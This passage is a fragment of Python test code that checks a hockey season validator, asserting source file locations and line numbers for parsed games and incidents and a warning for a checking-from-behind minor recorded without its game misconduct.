    assert (incident.where, incident.line) == ("incidents.csv, games[0].incidents[1]", 3)
    assert (season.games[1].where, season.games[1].line) == ("games.csv, games[1]", 3)
    # the checking-from-behind minor without its game misconduct warns, at its CSV line
    warnings = [(w.where, w.line) for w in evaluate(season).warnings]
    assert ("incidents.csv, games[0].incidents[1]", 3) in warnings
